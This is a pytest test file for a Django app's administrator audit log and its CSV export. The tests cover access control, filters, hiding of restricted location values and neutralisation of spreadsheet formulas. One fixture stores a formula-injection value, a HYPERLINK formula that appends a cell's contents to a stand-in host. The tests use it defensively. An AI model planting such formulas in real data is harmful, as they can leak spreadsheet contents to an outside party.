"""Administrators read and export the whole audit log, filtered by actor, action, period and
record (issue 17.4); restricted values never show, formulas are neutralised in the export."""

from __future__ import annotations

import csv
import datetime
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

pytestmark = pytest.mark.django_db

POINT = (35.93012, 36.63417)


def signed_in(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def log_page(client: Client, **filters: Any) -> str:
    answer = client.get(reverse("audit-log"), filters)
    assert answer.status_code == 200
    return answer.content.decode()


def exported(client: Client, **filters: Any) -> list[dict[str, str]]:
    answer = client.get(reverse("audit-log-export"), filters)
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def changed(verifier: Any, make_incident: Any) -> Any:
    """An incident with a restricted point, verified with a reason a spreadsheet would run."""
    from carewatch.incidents.services import incident_set_state

    incident = make_incident(state="submitted", exact_lat=POINT[0], exact_lon=POINT[1])
    incident_set_state(
        incident=incident,
        user=verifier,
        state="verified",
        expected_version=incident.version,
        reason='=HYPERLINK("http://example.invalid/?"&A1) CANARY-REASON',
    )
    return incident


def test_only_administrators_read_the_log(
    admin: Any, verifier: Any, analyst: Any, changed: Any
) -> None:
    for user in (verifier, analyst):
        assert signed_in(user).get(reverse("audit-log")).status_code == 403
        assert signed_in(user).get(reverse("audit-log-export")).status_code == 403
    assert Client().get(reverse("audit-log")).status_code == 302
    html = log_page(signed_in(admin))
    assert "CANARY-REASON" in html and "carewatch.incident.verified" in html
    assert 'href="/audit/"' in html  # in the top bar


def test_the_filters_narrow_by_actor_action_period_and_record(
    admin: Any, verifier: Any, changed: Any, make_incident: Any
) -> None:
    other = make_incident(title="Another incident")
    client = signed_in(admin)
    by_verifier = log_page(client, actor=verifier.pk, action="carewatch.incident.verified")
    assert "CANARY-REASON" in by_verifier and "1 entry" in by_verifier
    assert "1 entry" in log_page(
        client, object_type="incidents.incident", object_id=other.pk, action="carewatch.incident."
    )
    assert "0 entries" in log_page(client, actor=admin.pk, action="carewatch.incident.")
    today = datetime.date.today()
    assert "CANARY-REASON" in log_page(client, date_from=today.isoformat())
    assert "CANARY-REASON" not in log_page(
        client, date_to=(today - datetime.timedelta(days=1)).isoformat()
    )


def test_a_wrong_filter_says_so_and_lists_nothing(admin: Any, changed: Any) -> None:
    html = log_page(signed_in(admin), date_from="2017-02-31", actor="999999")
    assert "0 entries" in html and "CANARY-REASON" not in html
    assert "errorlist" in html


def test_restricted_values_never_show_in_the_log_nor_its_export(admin: Any, changed: Any) -> None:
    client = signed_in(admin)
    html = log_page(client, object_type="incidents.incident", object_id=changed.pk)
    assert "restricted value changed" in html
    rows = exported(client, object_type="incidents.incident", object_id=changed.pk)
    for text in (html, repr(rows)):
        assert "35.93012" not in text and "36.63417" not in text


def test_the_export_is_the_filtered_log_with_formulas_neutralised_and_is_logged(
    admin: Any, verifier: Any, changed: Any
) -> None:
    from carewatch.audit.models import AuditEntry

    rows = exported(signed_in(admin), actor=verifier.pk, action="carewatch.incident.verified")
    assert [r["action"] for r in rows] == ["carewatch.incident.verified"]
    [row] = rows
    assert row["reason"].startswith("'=HYPERLINK(")
    assert row["object_id"] == str(changed.pk) and row["actor"] == "verifier"
    assert "state: Submitted → Verified" in row["changes"]
    assert len(row["entry_hash"]) == 64
    assert len(row["created_at"]) == len("2026-12-05T19:40:36+00:00")  # to the second
    logged = AuditEntry.objects.filter(action="carewatch.audit.exported").get()
    assert logged.actor == admin
    assert logged.after == {"actor": str(verifier.pk), "action": "carewatch.incident.verified"}


def test_times_are_given_to_the_second(admin: Any, changed: Any) -> None:
    """An entry's time in its ``<time datetime>`` carries no fraction of a second: nobody reads it,
    and its digits ("…:35.911177") are what a scan of the pages for exact points looks for."""
    client = signed_in(admin)
    history = client.get(reverse("incident-history", args=[changed.pk]))
    assert history.status_code == 200
    for html in (log_page(client), history.content.decode()):
        times = re.findall(r'<time datetime="([^"]+)"', html)
        assert times and not [t for t in times if "." in t], times
